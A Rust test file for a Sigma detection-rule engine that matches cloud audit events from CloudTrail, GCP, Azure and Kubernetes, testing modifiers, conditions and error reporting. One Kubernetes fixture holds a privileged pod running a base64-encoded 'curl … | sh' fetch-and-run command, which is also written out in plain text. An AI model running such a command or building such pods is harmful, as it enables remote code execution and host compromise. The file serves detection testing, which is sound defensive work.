//! Rule-level tests on events as the services write them. The event files under `testdata/sigma/events`
//! are this repository's recorded streams (see their README); inline events follow the vendors' schemas:
//! CloudTrail record contents (docs.aws.amazon.com/awscloudtrail/latest/userguide/cloudtrail-event-reference-record-contents.html),
//! Kubernetes audit.k8s.io/v1 Event (kubernetes.io/docs/reference/config-api/apiserver-audit.v1/),
//! GCP AuditLog LogEntry (cloud.google.com/logging/docs/reference/audit/auditlog/rest/Shared.Types/AuditLog),
//! Azure Activity Log export (learn.microsoft.com/azure/azure-monitor/essentials/activity-log-schema).

use super::*;

const CLOUDTRAIL: &str = include_str!("../../../testdata/sigma/events/aws_cloudtrail.ndjson");
const AZURE: &str = include_str!("../../../testdata/sigma/events/azure_activity.ndjson");
const GCP: &str = include_str!("../../../testdata/sigma/events/gcp_audit.ndjson");
const K8S: &str = include_str!("../../../testdata/sigma/events/k8s_audit.ndjson");

const PROJECT_RULES: [(&str, &str); 5] = [
    (
        "cloudtrail_logging_stopped.yml",
        include_str!("../../../testdata/sigma/cloudtrail_logging_stopped.yml"),
    ),
    (
        "gcp_log_sink_deleted.yml",
        include_str!("../../../testdata/sigma/gcp_log_sink_deleted.yml"),
    ),
    (
        "azure_diagnostic_setting_deleted.yml",
        include_str!("../../../testdata/sigma/azure_diagnostic_setting_deleted.yml"),
    ),
    (
        "kubernetes_monitoring_daemonset_deleted.yml",
        include_str!("../../../testdata/sigma/kubernetes_monitoring_daemonset_deleted.yml"),
    ),
    (
        "kubernetes_privileged_pod_encoded_script.yml",
        include_str!("../../../testdata/sigma/kubernetes_privileged_pod_encoded_script.yml"),
    ),
];

fn doc(origin: &str, text: &str) -> SigmaDocument {
    SigmaDocument {
        origin: origin.into(),
        text: text.into(),
    }
}

fn set(text: &str) -> SigmaRuleSet {
    match load(&[doc("test.yml", text)], SigmaOptions::default()) {
        Ok((set, skipped)) => {
            assert!(skipped.is_empty());
            set
        }
        Err(e) => panic!("{e}"),
    }
}

fn load_err(text: &str) -> String {
    load(&[doc("test.yml", text)], SigmaOptions::default())
        .expect_err("must be refused")
        .to_string()
}

/// Ids of the rules matching one event.
fn matching(set: &SigmaRuleSet, source: SourceKind, event: &str) -> Vec<String> {
    let object = Object::parse(event).expect("event JSON");
    let mut out = Vec::new();
    set.evaluate(source, &object, &mut out);
    out.iter().map(|m| m.rule.id.clone()).collect()
}

/// A one-selection rule for `source` (a logsource line) with the given detection body.
fn rule(logsource: &str, detection: &str) -> String {
    format!("title: t\nid: r1\nlogsource: {logsource}\ndetection:\n{detection}")
}

const CT: &str = "{product: aws, service: cloudtrail}";
const K8: &str = "{product: kubernetes, service: audit}";

fn hit(logsource: &str, detection: &str, source: SourceKind, event: &str) -> bool {
    !matching(&set(&rule(logsource, detection)), source, event).is_empty()
}

fn ct(detection: &str, event: &str) -> bool {
    hit(CT, detection, SourceKind::AwsCloudtrail, event)
}

fn k8s(detection: &str, event: &str) -> bool {
    hit(K8, detection, SourceKind::K8sAudit, event)
}

const STOP_LOGGING: &str = r#"{"eventVersion":"1.11","userIdentity":{"type":"AssumedRole","arn":"arn:aws:sts::111122223333:assumed-role/ci-deployer/dev-sync-4821","accountId":"111122223333","sessionContext":{"attributes":{"creationDate":"2026-11-27T08:11:37Z","mfaAuthenticated":"false"}}},"eventTime":"2026-11-27T08:13:51Z","eventSource":"cloudtrail.amazonaws.com","eventName":"StopLogging","awsRegion":"us-east-1","sourceIPAddress":"203.0.113.45","userAgent":"aws-cli/2.15.30 Python/3.11.8 command/cloudtrail.stop-logging","errorCode":"AccessDenied","requestParameters":{"name":"arn:aws:cloudtrail:us-east-1:111122223333:trail/org-trail"},"responseElements":null,"readOnly":false,"eventType":"AwsApiCall","managementEvent":true,"resources":[{"type":"AWS::CloudTrail::Trail","ARN":"arn:aws:cloudtrail:us-east-1:111122223333:trail/org-trail"}]}"#;
const DELETE_TRAIL: &str = r#"{"eventVersion":"1.11","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/mallory","userName":"mallory"},"eventTime":"2026-11-27T08:20:02Z","eventSource":"cloudtrail.amazonaws.com","eventName":"DeleteTrail","awsRegion":"us-east-1","sourceIPAddress":"198.51.100.9","userAgent":"aws-cli/2.15.30","requestParameters":{"name":"org-trail"},"responseElements":null,"readOnly":false,"eventType":"AwsApiCall","managementEvent":true}"#;
const POD_CREATE: &str = r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","stage":"ResponseComplete","verb":"create","user":{"username":"admin","groups":["system:masters","system:authenticated"]},"sourceIPs":["10.20.4.17"],"objectRef":{"resource":"pods","namespace":"default","name":"default","apiVersion":"v1"},"responseStatus":{"metadata":{},"code":201},"requestObject":{"kind":"Pod","spec":{"containers":[{"name":"c","image":"alpine","args":["sh","-c","echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4yMy94LnNoIHwgc2g= | base64 -d | sh"],"securityContext":{"capabilities":{"add":["SYS_ADMIN"]}}}],"volumes":[{"name":"h","hostPath":{"path":"/var/run/docker.sock","type":"Socket"}}]}}}"#;

#[test]
fn project_rules_match_exactly_their_behaviours() {
    let documents: Vec<SigmaDocument> = PROJECT_RULES
        .iter()
        .map(|(name, text)| doc(name, text))
        .collect();
    let (set, skipped) = load(&documents, SigmaOptions::default()).expect("rules load");
    assert!(skipped.is_empty());
    assert_eq!(set.len(), 5);
    let events = |text: &'static str| text.lines().filter(|l| !l.is_empty());
    let field = |event: &str, path: &[&str]| {
        let object = Object::parse(event).expect("event");
        object
            .path(path)
            .and_then(crate::sources::json::raw_str)
            .map(|s| s.into_owned())
    };
    let mut seen = 0;
    for event in events(CLOUDTRAIL) {
        let name = field(event, &["eventName"]).unwrap_or_default();
        let expected = matches!(name.as_str(), "StopLogging" | "DeleteTrail");
        let got = matching(&set, SourceKind::AwsCloudtrail, event);
        assert_eq!(!got.is_empty(), expected, "{name}: {got:?}");
        seen += usize::from(expected);
        // Rules of other sources never see CloudTrail events.
        assert!(matching(&set, SourceKind::GcpAudit, event).is_empty());
    }
    assert!(seen >= 2);
    for event in events(GCP) {
        let method = field(event, &["protoPayload", "methodName"]).unwrap_or_default();
        let got = matching(&set, SourceKind::GcpAudit, event);
        assert_eq!(
            got.len(),
            usize::from(method == "google.logging.v2.ConfigServiceV2.DeleteSink"),
            "{method}"
        );
    }
    for event in events(AZURE) {
        let object = Object::parse(event).expect("event");
        let operation = object
            .str("operationName")
            .or_else(|| object.object("operationName").and_then(|o| o.str("value")))
            .unwrap_or_default()
            .to_ascii_uppercase();
        let got = matching(&set, SourceKind::AzureActivity, event);
        assert_eq!(
            got.len(),
            usize::from(operation == "MICROSOFT.INSIGHTS/DIAGNOSTICSETTINGS/DELETE"),
            "{operation}"
        );
    }
    let mut k8s_ids = Vec::new();
    for event in events(K8S) {
        let object = Object::parse(event).expect("event");
        let verb = object.str("verb").unwrap_or_default().into_owned();
        let resource = object
            .path(&["objectRef", "resource"])
            .and_then(crate::sources::json::raw_str)
            .unwrap_or_default();
        let code = object
            .path(&["responseStatus", "code"])
            .and_then(crate::sources::json::raw_i64);
        let got = matching(&set, SourceKind::K8sAudit, event);
        let namespace = object
            .path(&["objectRef", "namespace"])
            .and_then(crate::sources::json::raw_str)
            .unwrap_or_default();
        let monitoring = [
            "falco",
            "amazon-cloudwatch",
            "monitoring",
            "datadog",
            "sysdig-agent",
        ]
        .contains(&namespace.as_ref())
            || namespace.ends_with("-monitoring");
        if verb == "delete"
            && resource == "daemonsets"
            && monitoring
            && code.is_none_or(|c| c < 400)
        {
            assert_eq!(got, ["9e8d7c6b-5a4f-4e3d-8c2b-1a0f9e8d7c6b"], "{event}");
        } else if verb != "create" {
            assert!(got.is_empty(), "{event}");
        }
        k8s_ids.extend(got);
    }
    assert!(k8s_ids.contains(&"2b3c4d5e-6f7a-4b8c-9d0e-1f2a3b4c5d6e".to_string()));
}

#[test]
fn prefilter_skips_rules_that_cannot_match() {
    let text = "title: stop\nid: stop\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  s:\n    eventName: StopLogging\n  condition: s\n---\ntitle: any delete\nid: wild\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  s:\n    eventName|startswith: Delete\n  condition: s\n---\ntitle: either\nid: either\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  a:\n    eventName: CreateTrail\n  b:\n    - eventName: UpdateTrail\n    - eventName: [DeleteTrail, PutEventSelectors]\n      errorCode: AccessDenied\n  condition: a or b\n---\ntitle: negated\nid: negated\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  s:\n    eventName: StopLogging\n  condition: not s\n";
    let set = set(text);
    let candidates = |event: &str| {
        let object = Object::parse(event).expect("event");
        set.candidates(SourceKind::AwsCloudtrail, &object)
            .into_iter()
            .map(|i| set.rules()[i].id.as_str())
            .collect::<Vec<_>>()
    };
    assert_eq!(candidates(STOP_LOGGING), ["stop", "wild", "negated"]);
    assert_eq!(
        candidates(DELETE_TRAIL),
        ["wild", "either", "negated"],
        "the StopLogging rule is not evaluated"
    );
    assert_eq!(
        matching(&set, SourceKind::AwsCloudtrail, DELETE_TRAIL),
        ["wild", "negated"]
    );
    let object = Object::parse(DELETE_TRAIL).expect("event");
    assert!(set.candidates(SourceKind::GcpAudit, &object).is_empty());
}

#[test]
fn string_matching() {
    assert!(
        ct(
            "  s:\n    eventName: stoplogging\n  condition: s",
            STOP_LOGGING
        ),
        "case-insensitive"
    );
    assert!(!ct(
        "  s:\n    eventName|cased: stoplogging\n  condition: s",
        STOP_LOGGING
    ));
    assert!(ct(
        "  s:\n    eventName|cased: StopLogging\n  condition: s",
        STOP_LOGGING
    ));
    assert!(ct(
        "  s:\n    eventName: 'Stop*'\n  condition: s",
        STOP_LOGGING
    ));
    assert!(ct(
        "  s:\n    eventName: 'St?pLogging'\n  condition: s",
        STOP_LOGGING
    ));
    assert!(
        !ct(
            "  s:\n    eventName: 'St\\?pLogging'\n  condition: s",
            STOP_LOGGING
        ),
        "escaped ?"
    );
    assert!(ct(
        "  s:\n    userAgent|contains: 'COMMAND/cloudtrail'\n  condition: s",
        STOP_LOGGING
    ));
    assert!(ct(
        "  s:\n    eventName|startswith: Stop\n    eventSource|endswith: .com\n  condition: s",
        STOP_LOGGING
    ));
    assert!(!ct(
        "  s:\n    eventName|endswith: Stop\n  condition: s",
        STOP_LOGGING
    ));
    assert!(ct(
        "  s:\n    requestParameters.name|contains|all: [cloudtrail, org-trail]\n  condition: s",
        STOP_LOGGING
    ));
    assert!(!ct(
        "  s:\n    requestParameters.name|contains|all: [cloudtrail, other]\n  condition: s",
        STOP_LOGGING
    ));
    assert!(
        ct(
            "  s:\n    eventName: [CreateTrail, StopLogging]\n  condition: s",
            STOP_LOGGING
        ),
        "list is OR"
    );
    assert!(
        !ct(
            "  s:\n    eventName: StopLogging\n    errorCode: ThrottlingException\n  condition: s",
            STOP_LOGGING
        ),
        "map is AND"
    );
    assert!(
        ct(
            "  s:\n    resources.type: 'AWS::CloudTrail::Trail'\n  condition: s",
            STOP_LOGGING
        ),
        "array of objects"
    );
}

#[test]
fn numbers_booleans_null_and_exists() {
    assert!(
        ct("  s:\n    readOnly: 'false'\n  condition: s", STOP_LOGGING),
        "'false' matches false"
    );
    assert!(ct(
        "  s:\n    managementEvent: true\n  condition: s",
        STOP_LOGGING
    ));
    assert!(ct(
        "  s:\n    userIdentity.sessionContext.attributes.mfaAuthenticated: false\n  condition: s",
        STOP_LOGGING
    ));
    assert!(k8s(
        "  s:\n    responseStatus.code: 201\n  condition: s",
        POD_CREATE
    ));
    assert!(
        k8s(
            "  s:\n    responseStatus.code: '201'\n  condition: s",
            POD_CREATE
        ),
        "'201' matches 201"
    );
    assert!(!k8s(
        "  s:\n    responseStatus.code: 20\n  condition: s",
        POD_CREATE
    ));
    assert!(k8s(
        "  s:\n    responseStatus.code|gte: 201\n    responseStatus.code|lt: 300\n  condition: s",
        POD_CREATE
    ));
    assert!(!k8s(
        "  s:\n    responseStatus.code|gt: 201\n  condition: s",
        POD_CREATE
    ));
    assert!(k8s(
        "  s:\n    responseStatus.code|lte: 201\n  condition: s",
        POD_CREATE
    ));
    assert!(
        ct(
            "  s:\n    responseElements: null\n  condition: s",
            STOP_LOGGING
        ),
        "null value"
    );
    assert!(
        ct("  s:\n    errorMessage: null\n  condition: s", DELETE_TRAIL),
        "absent"
    );
    assert!(!ct(
        "  s:\n    errorCode: null\n  condition: s",
        STOP_LOGGING
    ));
    assert!(ct(
        "  s:\n    errorCode|exists: true\n  condition: s",
        STOP_LOGGING
    ));
    assert!(!ct(
        "  s:\n    errorCode|exists: true\n  condition: s",
        DELETE_TRAIL
    ));
    assert!(ct(
        "  s:\n    errorCode|exists: false\n  condition: s",
        DELETE_TRAIL
    ));
    assert!(
        !ct(
            "  s:\n    responseElements|exists: true\n  condition: s",
            STOP_LOGGING
        ),
        "null does not exist"
    );
}

#[test]
fn arrays_cidr_regex_fieldref_and_encodings() {
    assert!(
        k8s(
            "  s:\n    user.groups: system:masters\n  condition: s",
            POD_CREATE
        ),
        "any array element"
    );
    assert!(k8s(
        "  s:\n    sourceIPs|cidr: 10.20.0.0/16\n  condition: s",
        POD_CREATE
    ));
    assert!(!k8s(
        "  s:\n    sourceIPs|cidr: 10.21.0.0/16\n  condition: s",
        POD_CREATE
    ));
    assert!(ct(
        "  s:\n    sourceIPAddress|cidr: 203.0.113.0/24\n  condition: s",
        STOP_LOGGING
    ));
    assert!(ct(
        "  s:\n    eventName|re: '^Stop(Logging|Trail)$'\n  condition: s",
        STOP_LOGGING
    ));
    assert!(
        !ct(
            "  s:\n    eventName|re: '^stoplogging$'\n  condition: s",
            STOP_LOGGING
        ),
        "re is case-sensitive"
    );
    assert!(ct(
        "  s:\n    eventName|re|i: '^stoplogging$'\n  condition: s",
        STOP_LOGGING
    ));
    let multiline = r#"{"eventName":"X","errorMessage":"first\nsecond line"}"#;
    assert!(!ct(
        "  s:\n    errorMessage|re: '^second'\n  condition: s",
        multiline
    ));
    assert!(ct(
        "  s:\n    errorMessage|re|m: '^second'\n  condition: s",
        multiline
    ));
    assert!(!ct(
        "  s:\n    errorMessage|re: 'first.second'\n  condition: s",
        multiline
    ));
    assert!(ct(
        "  s:\n    errorMessage|re|s: 'first.second'\n  condition: s",
        multiline
    ));
    assert!(k8s(
        "  s:\n    objectRef.name|fieldref: objectRef.namespace\n  condition: s",
        POD_CREATE
    ));
    assert!(!k8s(
        "  s:\n    objectRef.name|fieldref: objectRef.resource\n  condition: s",
        POD_CREATE
    ));
    assert!(k8s(
        "  s:\n    objectRef.resource|fieldref|startswith: kind\n  condition: s",
        r#"{"kind":"Po","objectRef":{"resource":"pods"}}"#
    ));
    let script = "curl -s http://198.51.100.23/x.sh | sh";
    assert!(k8s(
        &format!(
            "  s:\n    requestObject.spec.containers.args|base64|contains: '{script}'\n  condition: s"
        ),
        POD_CREATE
    ));
    assert!(k8s(
        "  s:\n    requestObject.spec.containers.args|base64offset|contains: '198.51.100.23'\n  condition: s",
        POD_CREATE
    ));
    assert!(!k8s(
        "  s:\n    requestObject.spec.containers.args|base64offset|contains: '198.51.100.24'\n  condition: s",
        POD_CREATE
    ));
    assert!(
        k8s(
            "  s:\n    requestObject.spec.containers.args|windash|contains: ' /d '\n  condition: s",
            POD_CREATE
        ),
        "/d also finds -d"
    );
    let wide =
        r#"{"verb":"create","objectRef":{"resource":"pods"},"requestObject":{"data":"YQBiAGMA"}}"#;
    assert!(k8s(
        "  s:\n    requestObject.data|wide|base64: abc\n  condition: s",
        wide
    ));
}

#[test]
fn condition_forms_and_keywords() {
    let body = "  sel_stop:\n    eventName: StopLogging\n  sel_denied:\n    errorCode: AccessDenied\n  _helper:\n    eventName: DeleteTrail\n";
    let cond = |c: &str, event: &str| ct(&format!("{body}  condition: {c}"), event);
    assert!(cond("sel_stop and sel_denied", STOP_LOGGING));
    assert!(!cond("sel_stop and not sel_denied", STOP_LOGGING));
    assert!(cond("not sel_stop", DELETE_TRAIL));
    assert!(cond(
        "(sel_stop or _helper) and not sel_denied",
        DELETE_TRAIL
    ));
    assert!(cond("1 of sel_*", STOP_LOGGING));
    assert!(cond("all of sel_*", STOP_LOGGING));
    assert!(
        cond("all of them", STOP_LOGGING),
        "`them` leaves out _helper, which does not match"
    );
    assert!(!cond("all of sel_* and _helper", STOP_LOGGING));
    assert!(!cond("1 of them", DELETE_TRAIL), "them leaves out _helper");
    assert!(cond("1 of _helper", DELETE_TRAIL));
    assert!(
        ct(
            &format!("{body}  condition:\n    - sel_stop\n    - _helper"),
            DELETE_TRAIL
        ),
        "condition list is OR"
    );
    assert!(
        ct(
            "  keywords:\n    - 'ORG-TRAIL'\n  condition: keywords",
            DELETE_TRAIL
        ),
        "keywords search every value"
    );
    assert!(!ct(
        "  keywords:\n    - 'no-such-thing'\n  condition: keywords",
        DELETE_TRAIL
    ));
    assert!(ct(
        "  keywords:\n    '|all':\n      - mallory\n      - org-trail\n  condition: keywords",
        DELETE_TRAIL
    ));
}

#[test]
fn taxonomy_and_log_sources() {
    let gcp = r#"{"protoPayload":{"@type":"type.googleapis.com/google.cloud.audit.AuditLog","serviceName":"logging.googleapis.com","methodName":"google.logging.v2.ConfigServiceV2.DeleteSink"},"logName":"projects/p/logs/cloudaudit.googleapis.com%2Factivity"}"#;
    let gcp_rule = "  s:\n    gcp.audit.method_name: google.logging.v2.ConfigServiceV2.DeleteSink\n  condition: s";
    assert!(hit(
        "{product: gcp, service: gcp.audit}",
        gcp_rule,
        SourceKind::GcpAudit,
        gcp
    ));
    let pubsub_names =
        "  s:\n    data.protoPayload.serviceName: logging.googleapis.com\n  condition: s";
    assert!(hit(
        "{product: gcp, service: gcp.audit}",
        pubsub_names,
        SourceKind::GcpAudit,
        gcp
    ));
    let azure_rest = r#"{"operationName":{"value":"Microsoft.Insights/diagnosticSettings/delete","localizedValue":"Delete diagnostic setting"},"resourceId":"/subscriptions/x"}"#;
    let azure_rule =
        "  s:\n    operationName: MICROSOFT.INSIGHTS/DIAGNOSTICSETTINGS/DELETE\n  condition: s";
    assert!(hit(
        "{product: azure, service: activitylogs}",
        azure_rule,
        SourceKind::AzureActivity,
        azure_rest
    ));
    assert!(k8s(
        "  s:\n    capabilities: SYS_ADMIN\n    hostPath: '/var/run/*'\n  condition: s",
        POD_CREATE
    ));
    assert!(
        !hit(
            CT,
            "  s:\n    eventName: StopLogging\n  condition: s",
            SourceKind::K8sAudit,
            STOP_LOGGING
        ),
        "wrong source"
    );
}

#[test]
fn matches_explain_the_fields() {
    let set = set(&rule(
        CT,
        "  sel:\n    eventName|startswith: Stop\n    errorCode: AccessDenied\n  filter:\n    userIdentity.type: Root\n  condition: sel and not filter",
    ));
    let object = Object::parse(STOP_LOGGING).expect("event");
    let mut out = Vec::new();
    set.evaluate(SourceKind::AwsCloudtrail, &object, &mut out);
    assert_eq!(out.len(), 1);
    let fields: Vec<(&str, &str, &str)> = out[0]
        .matched
        .iter()
        .map(|m| (m.selection.as_str(), m.field.as_str(), m.value.as_str()))
        .collect();
    assert_eq!(
        fields,
        [
            ("sel", "eventName|startswith", "StopLogging"),
            ("sel", "errorCode", "AccessDenied")
        ]
    );
}

#[test]
fn metadata_helpers() {
    let (set, _) = load(
        &[doc(PROJECT_RULES[4].0, PROJECT_RULES[4].1)],
        SigmaOptions::default(),
    )
    .expect("load");
    let rule = &set.rules()[0];
    assert_eq!(rule.severity(), crate::model::Severity::Critical);
    assert_eq!(rule.confidence(), 50);
    assert_eq!(rule.techniques(), ["T1610", "T1027"]);
    assert_eq!(rule.tactics(), ["execution", "defense-evasion"]);
    assert_eq!(rule.source, SourceKind::K8sAudit);
    let (set, _) = load(
        &[doc(PROJECT_RULES[2].0, PROJECT_RULES[2].1)],
        SigmaOptions::default(),
    )
    .expect("load");
    assert_eq!(
        (set.rules()[0].severity(), set.rules()[0].confidence()),
        (crate::model::Severity::Medium, 90)
    );
    let (set, _) = load(
        &[doc(PROJECT_RULES[0].0, PROJECT_RULES[0].1)],
        SigmaOptions::default(),
    )
    .expect("load");
    assert_eq!(set.rules()[0].techniques(), ["T1562.008"]);
}

#[test]
fn unsupported_features_are_named() {
    assert_eq!(
        load_err(&rule(
            CT,
            "  selection:\n    eventName|foo: X\n  condition: selection"
        )),
        "test.yml line 6: rule r1 (t) at detection.selection.eventName|foo: unsupported: unknown modifier `foo`"
    );
    assert_eq!(
        load_err(&rule(
            CT,
            "  s:\n    eventName: X\n  condition: s | count() by userIdentity.arn > 5"
        )),
        "test.yml line 7: rule r1 (t) at detection.condition: unsupported: `s | count() by userIdentity.arn > 5`: aggregation expressions (`| count() …`) are not supported; use a correlation outside the plugin"
    );
    assert!(
        load_err(&rule(
            CT,
            "  s:\n    eventName: X\n  timeframe: 5m\n  condition: s"
        ))
        .contains("at detection.timeframe: unsupported")
    );
    assert!(
        load_err("title: c\nid: c\ncorrelation:\n  type: event_count\n")
            .contains("at correlation: unsupported: correlation rules")
    );
    assert_eq!(
        load_err(
            "title: w\nid: w\nlogsource:\n  product: windows\n  category: process_creation\ndetection:\n  s:\n    Image: x\n  condition: s\n"
        ),
        "test.yml line 4: rule w (w) at logsource: unsupported: no events in this plugin for log source {product: windows, category: process_creation}"
    );
    assert!(
        load_err(&rule(
            CT,
            "  s:\n    eventName|expand: '%x%'\n  condition: s"
        ))
        .contains("unsupported: modifier `expand`")
    );
}

#[test]
fn invalid_rules_and_yaml_are_refused_with_position() {
    assert_eq!(
        load_err(
            "title: t\nid: r1\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  s:\n    eventName: [a\n  condition: s\n"
        ),
        load_err(
            "title: t\nid: r1\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  s:\n    eventName: [a\n  condition: s\n"
        )
    );
    let bad = load_err(
        "title: t\nid: r1\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  s:\n    eventName: [a\n  condition: s\n",
    );
    assert!(
        bad.starts_with("test.yml line ") && bad.contains("rule (not read): invalid YAML"),
        "{bad}"
    );
    assert!(
        load_err(&rule(CT, "  s:\n    eventName: X\n  condition: t"))
            .ends_with("at detection.condition: `t`: unknown selection `t`")
    );
    assert!(
        load_err(&rule(CT, "  s:\n    eventName|re: '(['\n  condition: s"))
            .contains("invalid regular expression")
    );
    assert!(
        load_err(&rule(
            CT,
            "  s:\n    sourceIPAddress|cidr: 10.0.0.0/33\n  condition: s"
        ))
        .contains("invalid CIDR network")
    );
    assert!(
        load_err(&rule(CT, "  s:\n    eventName|re|cidr: x\n  condition: s"))
            .contains("re and cidr cannot be combined")
    );
    assert!(load_err(&rule(CT, "  s:\n    eventName: X\n")).contains("missing `condition`"));
    assert!(
        load_err("id: x\nlogsource: {product: aws, service: cloudtrail}\n")
            .contains("missing `title`")
    );
    let twice = format!(
        "{}\n---\n{}",
        rule(CT, "  s:\n    eventName: X\n  condition: s"),
        rule(CT, "  s:\n    eventName: Y\n  condition: s")
    );
    assert_eq!(
        load_err(&twice),
        "test.yml document 2 line 10: rule r1 at id: the id is already used by the rule from test.yml document 1"
    );
}

#[test]
fn skip_and_report_keeps_the_supported_rules() {
    let text = format!(
        "{}\n---\n{}",
        rule(CT, "  s:\n    eventName: StopLogging\n  condition: s"),
        "title: w\nid: w\nlogsource: {product: windows}\ndetection:\n  s:\n    Image: x\n  condition: s\n"
    );
    let options = SigmaOptions {
        on_unsupported: OnUnsupported::SkipAndReport,
    };
    let (set, skipped) = load(&[doc("config.sigma.rules[0]", &text)], options).expect("load");
    assert_eq!(set.len(), 1);
    assert_eq!(skipped.len(), 1);
    assert_eq!(skipped[0].error.origin, "config.sigma.rules[0] document 2");
    assert_eq!(skipped[0].error.path, "logsource");
    // Invalid rules are still refused.
    assert!(load(&[doc("x", "title: [")], options).is_err());
}

#[test]
fn hostile_input_never_panics() {
    for text in [
        "",
        "---\n---\n",
        "[]",
        "a",
        "title: x",
        "detection: 5",
        "\u{0}\u{1}",
        "title: t\nlogsource: 5\n",
    ] {
        let _ = load(&[doc("x", text)], SigmaOptions::default());
    }
    let set = set(&rule(
        CT,
        "  s:\n    a.b.c.d|contains: x\n  k:\n    - x\n  condition: s or k",
    ));
    let deep = format!("{}{}", "{\"a\":[".repeat(200), "]}".repeat(200));
    for event in ["{}", r#"{"a":{"b":[[[{"c":{"d":"x"}}]]]}}"#, &deep] {
        let _ = matching(&set, SourceKind::AwsCloudtrail, event);
    }
}
